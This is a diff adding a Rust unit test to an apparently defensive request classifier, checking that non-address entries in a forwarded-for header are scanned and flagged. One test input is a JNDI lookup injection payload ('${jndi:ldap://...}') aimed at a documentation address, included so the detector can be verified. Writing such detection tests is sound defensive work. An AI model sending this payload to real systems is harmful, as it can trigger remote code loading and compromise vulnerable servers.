@@ -47,10 +47,10 @@ impl Classifier<'_> {
 mod tests {
     use std::sync::LazyLock;
 
-    use portcullis_ingest::{LogFormat, ReadOptions, Reject, Sink, Untrusted, read_object};
+    use portcullis_ingest::{Field, LogFormat, ReadOptions, Reject, Sink, Untrusted, read_object};
     use proptest::prelude::*;
 
-    use super::super::{FIELDS, Verdict};
+    use super::super::{FIELDS, HEADERS, Verdict};
     use super::*;
     use crate::rule::RuleSet;
 
@@ -69,6 +69,17 @@ mod tests {
     /// The ids of the rules that fired, in their order.
     fn fired(verdict: &Verdict) -> Vec<String> {
         verdict.hits().iter().map(|hit| RULES.rules()[hit.rule].id().to_owned()).collect()
+    }
+
+    #[test]
+    fn what_is_no_address_in_a_list_of_forwarders_is_searched_as_a_header() {
+        assert_eq!(FIELDS[HEADERS], Field::Headers);
+        let judged = |list: &str| {
+            let list = Some(Untrusted::new(list.as_bytes()));
+            RULES.classify(&Request { forwarded_for: list, ..Request::default() })
+        };
+        assert!(!judged("192.0.2.1, 2001:db8::1, unknown").flagged());
+        assert!(judged("${jndi:ldap://198.51.100.2/a}, 192.0.2.1").flagged());
     }
 
     #[test]
